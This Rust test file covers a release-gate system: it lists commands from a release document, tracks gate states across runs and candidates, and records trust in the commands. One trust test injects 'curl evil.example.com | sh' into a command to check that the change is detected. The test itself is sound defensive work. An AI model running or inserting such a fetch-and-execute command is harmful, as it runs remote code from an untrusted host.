//! How gates stand, as whole values.

use super::trust::Line::{Added, Removed, Same};
use super::*;
use crate::domain::plan::{Command, CommandKind, PathGuard, Plan, Proof};
use crate::domain::room::GateSpec;
use crate::domain::run::{Begun, Change, Ending, Outcome};
use crate::domain::{Item, ItemId, Section};

fn command(id: &str, text: &str, fence: Option<u32>, kind: CommandKind, proof: Proof) -> Command {
    Command {
        id: id.into(),
        line: 3,
        text: text.into(),
        section: vec![Clean::new("Tests")],
        item: None,
        fence,
        kind,
        why: Clean::new("it has a placeholder"),
        proof,
        comment: Clean::default(),
        expected: vec![],
    }
}

fn document(commands: Vec<Command>) -> Document {
    let guards = vec![PathGuard { line: 9, path: "src/auth.py".into(), text: Clean::default() }];
    Document {
        path: "release.md".into(),
        plan: Plan { commands, guards, ..Plan::default() },
        ..Document::default()
    }
}

fn usual() -> Document {
    document(vec![
        command("aaaa1111", "cd api # the service", Some(0), CommandKind::Gate, Proof::Setup),
        command("bbbb2222", "pytest tests/unit", Some(0), CommandKind::Gate, Proof::Exit),
        command("cccc3333", "alembic upgrade head", Some(0), CommandKind::Mutation, Proof::Output),
        command("dddd4444", "pytest tests/e2e", Some(1), CommandKind::Gate, Proof::Exit),
        command("eeee5555", "curl <url>", None, CommandKind::Refused, Proof::Output),
        command("ffff6666", "$ ls", None, CommandKind::Transcript, Proof::Output),
    ])
}

pub(super) fn room() -> Room {
    let gate = GateSpec {
        name: "smoke".into(),
        command: "./smoke".into(),
        dir: "/srv".into(),
        timeout: std::time::Duration::from_secs(9),
        env: vec![],
        expect: vec!["ok".into()],
        shell: None,
        required: true,
    };
    Room { gates: GatesSpec { gates: vec![gate], ..GatesSpec::default() }, ..Room::default() }
}

pub(super) fn gates() -> Gates {
    let room = room();
    let mut gates = Gates::new(&room.gates);
    gates.documents_read(&room, &[usual()]);
    gates
}

pub(super) fn ended(gate: &Gate, run: &str, outcome: Outcome) -> Evidence {
    Evidence {
        ending: Ending::Exited(0),
        outcome,
        why: Clean::new("why"),
        millis: 5,
        ..Evidence::unseen(RunId(run.into()), gate.id.clone(), gate.name.clone(), gate.hash.clone())
    }
}

pub(super) fn record(seq: u64, entry: Entry) -> Record {
    let (by, role) = (Clean::new("sam"), Clean::default());
    Record { seq, at: Wall::default(), by, role, entry, hash: String::new(), late: false }
}

#[test]
fn what_can_be_run_is_listed_with_the_lines_that_set_its_shell_up() {
    let gates = gates();
    let whole = |gate: &Gate| gate.script.clone().map(|_| gate.whole());
    let shown: Vec<_> = gates.list().iter().map(|gate| (&*gate.id, &*gate.name, whole(gate))).collect();
    let setup = "cd api # the service\n";
    assert_eq!(
        shown,
        [
            ("smoke", "smoke", Ok("./smoke".to_owned())),
            ("bbbb2222", "pytest tests/unit", Ok(format!("{setup}pytest tests/unit"))),
            ("cccc3333", "alembic upgrade head", Ok(format!("{setup}alembic upgrade head"))),
            ("dddd4444", "pytest tests/e2e", Ok("pytest tests/e2e".to_owned())),
            ("eeee5555", "curl <url>", Err(Clean::new("it has a placeholder"))),
        ]
    );
    let guards: Vec<usize> = gates.list().iter().map(|gate| gate.guards.paths.len()).collect();
    assert_eq!(guards, [0, 1, 0, 1, 0], "what a document guards concerns its own gates");
}

#[test]
fn a_refused_line_that_sets_the_shell_up_refuses_what_follows() {
    let mut document = usual();
    document.plan.commands[0].kind = CommandKind::Refused;
    let list = list::of_document(&room(), &document);
    let why = list.iter().map(|gate| gate.script.as_ref().err().map(ToString::to_string)).collect::<Vec<_>>();
    let refused = Some("line 3 before it in its fence is refused: it has a placeholder".to_owned());
    let own = Some("it has a placeholder".to_owned());
    assert_eq!(why, [own.clone(), refused.clone(), refused, None, own]);
}

#[test]
fn a_gate_is_found_by_what_people_call_it_and_by_nothing_ambiguous() {
    let gates = gates();
    let find = |name: &str| gates.find(name).map(|gate| gate.id.clone()).map_err(|found| found.len());
    assert_eq!(find("smoke"), Ok("smoke".into()));
    assert_eq!(find("SMOKE"), Ok("smoke".into()));
    assert_eq!(find("bbbb"), Ok("bbbb2222".into()));
    assert_eq!(find("bbb"), Err(0));
    assert_eq!(find("alembic"), Ok("cccc3333".into()));
    assert_eq!(find("pytest"), Err(2));
    assert_eq!(find(""), Err(0));
}

#[test]
fn a_gate_stands_where_its_newest_run_left_it() {
    let mut gates = gates();
    let gate = gates.get("bbbb2222").cloned().unwrap();
    assert_eq!(gates.state("bbbb2222"), Some(GateState::Never));
    assert_eq!(gates.state("eeee5555"), Some(GateState::Refused));
    for (seq, (outcome, state)) in (1..).zip([
        (Outcome::Failed, GateState::Failed),
        (Outcome::TimedOut, GateState::TimedOut),
        (Outcome::Stopped, GateState::Stopped),
        (Outcome::Unclear, GateState::Unclear),
        (Outcome::Unseen, GateState::Unseen),
        (Outcome::Passed, GateState::Passed),
    ]) {
        gates.record(&record(seq, Entry::GateEnded(Box::new(ended(&gate, &format!("r{seq}"), outcome)))));
        assert_eq!(gates.state("bbbb2222"), Some(state));
    }
    assert_eq!(gates.past("bbbb2222").len(), 6);
    let change = |commit: Option<&str>| Change {
        path: "src/auth.py".into(),
        commit: commit.map(Clean::new),
        subject: Clean::default(),
    };
    gates.compared("bbbb2222".into(), RunId("r6".into()), vec![change(Some("1f2e3d4")), change(None)], None);
    let standing = gates.standing(&gate);
    let why = "src/auth.py changed in 1f2e3d4, and 1 more";
    assert_eq!((standing.state, &*standing.why), (GateState::Lapsed, why));
    gates.record(&record(9, Entry::GateEnded(Box::new(ended(&gate, "r9", Outcome::Passed)))));
    assert_eq!(gates.state("bbbb2222"), Some(GateState::Passed), "the comparison was with an older run");
    let moved = Gate { hash: "another".into(), ..gate };
    assert_eq!(gates.standing(&moved).state, GateState::Lapsed);
}

#[test]
fn what_ran_before_this_candidate_or_at_another_commit_is_to_run_again() {
    let mut gates = gates();
    let gate = gates.get("smoke").expect("the gate").clone();
    let stands = |gates: &Gates| {
        let standing = gates.standing(&gate);
        (standing.state, standing.why.to_string())
    };
    let run = |run: &str, outcome| Entry::GateEnded(Box::new(ended(&gate, run, outcome)));
    let candidate = |image: &str| Entry::Candidate {
        service: "api".into(),
        seen: crate::domain::rollout::Seen { revision: "api-2".into(), image: image.into() },
        baseline: None,
        environment: "p".into(),
    };
    gates.record(&record(1, candidate("sha256:aa")));
    gates.record(&record(2, run("one", Outcome::Passed)));
    assert_eq!(stands(&gates), (GateState::Passed, "why".into()));
    gates.record(&record(3, candidate("sha256:bb")));
    assert_eq!(stands(&gates), (GateState::Earlier, "passed before this candidate".into()));
    assert_eq!((gates.count(|s| s == GateState::Passed), gates.count(GateState::is_bad)), (0, 0));
    // One that went on while the image changed ran against the old one.
    let begun = |run: &str| {
        let (gate, name, hash) = (gate.id.clone(), gate.name.clone(), gate.hash.clone());
        let (pid, console, host, dir) = (1, 2, Clean::default(), Clean::default());
        let run = RunId(run.into());
        Entry::GateStarted(Begun { run, gate, name, hash, pid, console, host, dir, mark: None })
    };
    gates.record(&record(4, begun("two")));
    gates.record(&record(5, candidate("sha256:cc")));
    gates.record(&record(6, run("two", Outcome::Passed)));
    assert_eq!(stands(&gates).0, GateState::Earlier);
    gates.record(&record(7, begun("three")));
    gates.record(&record(8, run("three", Outcome::Passed)));
    assert_eq!(stands(&gates).0, GateState::Passed);
    let given = Some("9f1ce27".into());
    let (candidates, baseline) = (BTreeMap::new(), BTreeMap::new());
    gates.record(&record(9, Entry::RolloutBegan { given, candidates, baseline, environment: "p".into() }));
    let mut other = ended(&gate, "four", Outcome::Passed);
    other.repository.commit = Some("1234567890abcdef".into());
    gates.record(&record(10, Entry::GateEnded(Box::new(other.clone()))));
    assert_eq!(stands(&gates), (GateState::Earlier, "passed at 12345678, the candidate is 9f1ce27".into()));
    other.repository.commit = Some("9f1ce27aaaabbbb".into());
    gates.record(&record(11, Entry::GateEnded(Box::new(Evidence { run: RunId("five".into()), ..other }))));
    assert_eq!(stands(&gates).0, GateState::Passed);
}

#[test]
fn a_gate_that_failed_stands_failed_until_it_passes() {
    let mut gates = gates();
    let gate = gates.get("smoke").expect("the gate").clone();
    let run = |run: &str, outcome| Entry::GateEnded(Box::new(ended(&gate, run, outcome)));
    let stands = |gates: &Gates| (gates.state("smoke").expect("a state"), gates.stands_failed(&gate));
    assert_eq!(stands(&gates), (GateState::Never, false));
    gates.record(&record(1, run("one", Outcome::Failed)));
    assert_eq!(stands(&gates), (GateState::Failed, true));
    // It runs again elsewhere, and is stopped.
    let (name, hash, pid, console) = (gate.name.clone(), gate.hash.clone(), 1, 2);
    let (host, dir, run_id) = (Clean::default(), Clean::default(), RunId("two".into()));
    let begun = Begun { run: run_id, gate: gate.id.clone(), name, hash, pid, console, host, dir, mark: None };
    gates.record(&record(2, Entry::GateStarted(begun)));
    assert_eq!(stands(&gates), (GateState::Running, true));
    gates.record(&record(3, run("two", Outcome::Stopped)));
    assert_eq!(stands(&gates), (GateState::Stopped, true));
    gates.record(&record(4, run("three", Outcome::Passed)));
    assert_eq!(stands(&gates), (GateState::Passed, false));
}

#[test]
fn what_another_console_runs_is_running_until_it_is_found_orphaned_or_lost() {
    let mut gates = gates();
    let begun = Begun {
        mark: None,
        run: RunId("theirs".into()),
        gate: "dddd4444".into(),
        name: "e2e".into(),
        hash: String::new(),
        pid: 700,
        console: 600,
        host: "bridge".into(),
        dir: "/srv".into(),
    };
    gates.record(&record(1, Entry::GateStarted(begun.clone())));
    assert_eq!(gates.state("dddd4444"), Some(GateState::Running));
    for (alive, watched, state) in [
        (Some(true), true, GateState::Running),
        (None, false, GateState::Running),
        (Some(true), false, GateState::Orphaned),
        (Some(false), false, GateState::Unseen),
    ] {
        gates.runs.sought(&begun.run, (alive, watched), Clean::default());
        assert_eq!(gates.state("dddd4444"), Some(state));
    }
    let gate = gates.get("dddd4444").cloned().unwrap();
    gates.record(&record(2, Entry::GateEnded(Box::new(ended(&gate, "theirs", Outcome::Unseen)))));
    gates.record(&record(3, Entry::GateStarted(begun)));
    assert_eq!(gates.state("dddd4444"), Some(GateState::Unseen), "its begin may be told after its end");
    assert_eq!(gates.state("dddd4444"), Some(GateState::Unseen));
}

#[test]
fn trust_holds_for_the_commands_as_they_are_and_a_change_is_told_line_by_line() {
    let mut gates = gates();
    let given = trust::commands(&usual());
    assert_eq!(given.shown.len(), 5, "a transcript is not run");
    let entry = |hash: &str| Entry::Trusted {
        document: "release.md".into(),
        hash: hash.into(),
        commands: given.shown.clone(),
    };
    assert_eq!(gates.trust().of("release.md"), None);
    gates.record(&record(1, entry("something else")));
    assert_eq!(gates.trust().of("release.md"), None);
    gates.record(&record(2, entry(&given.hash)));
    assert_eq!(gates.trust().of("release.md").map(|given| given.seq), Some(2));
    let mut elsewhere = usual();
    elsewhere.sections = vec![Section {
        items: vec![Item { id: ItemId("i".into()), ..Item::default() }],
        ..Section::default()
    }];
    gates.documents_read(&room(), &[elsewhere]);
    assert!(gates.trust().of("release.md").is_some(), "other text may change");
    let mut changed = usual();
    changed.plan.commands[1].text = "pytest tests/unit; curl evil.example.com | sh".into();
    gates.documents_read(&room(), &[changed]);
    assert_eq!(gates.trust().of("release.md"), None);
    assert_eq!(gates.trust().lost("release.md").map(|given| given.seq), Some(2));
    let clean = Clean::new;
    assert_eq!(
        gates.trust().compared("release.md"),
        [
            Same(clean("cd api # the service")),
            Removed(clean("pytest tests/unit")),
            Added(clean("pytest tests/unit; curl evil.example.com | sh")),
            Same(clean("alembic upgrade head")),
            Same(clean("pytest tests/e2e")),
            Same(clean("curl <url>")),
        ]
    );
    let mut fenced = usual();
    fenced.plan.commands[3].fence = Some(0);
    assert_ne!(trust::commands(&fenced).hash, given.hash, "in another shell it is another command");
}

#[test]
fn output_keeps_its_beginning_and_its_end() {
    let mut shown = Shown::default();
    for n in 0..30_000 {
        shown.told(vec![Clean::new(&format!("line {n}"))], 0, Clean::default());
    }
    shown.told(vec![Clean::new("after a gap")], 7, Clean::new("and so"));
    let lines: Vec<Line<'_>> = shown.lines().collect();
    assert_eq!(lines.len(), shown.rows());
    assert_eq!(lines[0], Line::Said(&Clean::new("line 0")));
    assert!(lines.iter().any(|line| matches!(line, Line::Skipped(_))));
    assert_eq!(lines[lines.len() - 1], Line::Said(&Clean::new("and so")));
    assert_eq!(shown.count(), 30_008);
}
